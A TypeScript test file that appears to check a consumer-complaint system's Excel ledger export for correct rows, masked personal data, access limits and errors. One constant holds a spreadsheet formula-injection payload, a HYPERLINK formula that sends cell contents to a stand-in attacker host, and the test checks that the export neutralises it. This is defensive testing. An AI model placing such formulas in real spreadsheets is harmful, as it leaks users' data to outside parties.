import { DEMO_COUNTY } from "@weiquan/local";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { expectError, startApi, type TestApi } from "../support/api.ts";
import { complaintBody, createCase } from "../support/cases.ts";

/** 案件台账 as Excel: the ledger's own rows for the same filters, masked, with no formula from user data. */
let api: TestApi;
const county = DEMO_COUNTY.countyCode;
const t: Record<string, string> = {};
const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const POISON = '=HYPERLINK("http://evil.example/?"&A1,"点我")';
const suffix = Date.now().toString(36);

beforeAll(async () => {
  api = await startApi({ demo: true });
  for (const who of ["bureau", "point1", "point2"]) t[who] = await api.login(county, who);
  await createCase(api, t.point1, complaintBody({ subject: `${POISON} ${suffix}` }));
  await createCase(api, t.point1, complaintBody({ subject: `冰箱不制冷 ${suffix}` }));
});
afterAll(() => api.close());

/** The workbook's rows as text, after checking no cell is a formula. */
async function exported(token: string, query: string) {
  const res = await fetch(`${api.url}/v1/cases/ledger.xlsx?${query}`, {
    headers: { authorization: `Bearer ${token}` },
  });
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toBe(XLSX);
  expect(res.headers.get("content-disposition")).toContain(encodeURIComponent("案件台账"));
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(await res.arrayBuffer());
  const ws = wb.getWorksheet("案件台账")!;
  const rows: string[][] = [];
  ws.eachRow((row) => {
    const cells: string[] = [];
    row.eachCell({ includeEmpty: true }, (cell) => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      cells.push(cell.value === null ? "" : String(cell.value));
    });
    rows.push(cells);
  });
  return rows;
}

/** Every tracking number the ledger lists for a query, page by page. */
async function ledger(token: string, query: string): Promise<string[]> {
  const out: string[] = [];
  let cursor: string | null = null;
  do {
    const page = await api.call(
      "GET",
      `/v1/cases?${query}&limit=200${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ""}`,
      { token },
    );
    expect(page.status).toBe(200);
    out.push(...page.body.items.map((i: { trackingNo: string }) => i.trackingNo));
    cursor = page.body.nextCursor;
  } while (cursor);
  return out;
}

describe("the ledger as an Excel workbook", () => {
  it("holds the rows the ledger lists for the same filters, in its order, with Chinese headers", async () => {
    const query = `q=${encodeURIComponent(suffix)}`;
    const rows = await exported(t.point1, query);
    expect(rows[0]).toEqual([
      "序号",
      "案件编号",
      "登记时间",
      "类型",
      "渠道",
      "类别",
      "投诉人",
      "被投诉方",
      "事由",
      "争议金额（元）",
      "挽回损失（元）",
      "办理单位",
      "登记单位",
      "状态",
      "办理期限",
      "期限状态",
    ]);
    expect(rows.slice(1).map((r) => r[1])).toEqual(await ledger(t.point1, query));
    expect(rows).toHaveLength(3);
    const [no, , , kind, channel, category, consumer, business, , amount, , unit, origin, status] = rows[2]!;
    expect(no).toBe("2");
    expect([kind, channel, category, status]).toEqual(["投诉", "来访", "家用电子电器", "已登记"]);
    expect(business).toBe("宝坻区惠民家电商店");
    expect(amount).toBe("3299");
    expect(unit).toMatch(/^南关社区/);
    expect(origin).toBe(unit);
    // Personal data as masked as in the ledger: never the full name, nor a phone number.
    expect(consumer).not.toBe("张桂芳");
    expect(consumer).toMatch(/^张\*+$/);
    expect(rows.flat().join(" ")).not.toContain("13812348000");
  });

  it("keeps a subject that looks like a formula as text", async () => {
    const rows = await exported(t.point1, `q=${encodeURIComponent(suffix)}`);
    expect(rows.map((r) => r[8])).toContain(`'${POISON} ${suffix}`);
  });

  it("exports only what the caller's ledger shows: another point's export has none of these", async () => {
    const query = `q=${encodeURIComponent(suffix)}`;
    expect(await exported(t.point2, query)).toHaveLength(1);
    // The bureau's whole ledger, narrowed by status, agrees with its list.
    const bureau = `status=registered&q=${encodeURIComponent(suffix)}`;
    expect((await exported(t.bureau, bureau)).slice(1).map((r) => r[1])).toEqual(
      await ledger(t.bureau, bureau),
    );
  });

  it("refuses bad filters with 400 and a unit the caller cannot see with 404", async () => {
    expectError(
      await api.call("GET", "/v1/cases/ledger.xlsx?status=nonsense", { token: t.point1 }),
      400,
      "VALIDATION_FAILED",
    );
    const units = (await api.call("GET", "/v1/units", { token: t.bureau })).body.items;
    const other = units.find((u: { name: string }) => u.name.startsWith("大口屯村"));
    expectError(
      await api.call("GET", `/v1/cases/ledger.xlsx?unitId=${other.id}`, { token: t.point1 }),
      404,
      "NOT_FOUND",
    );
  });
});
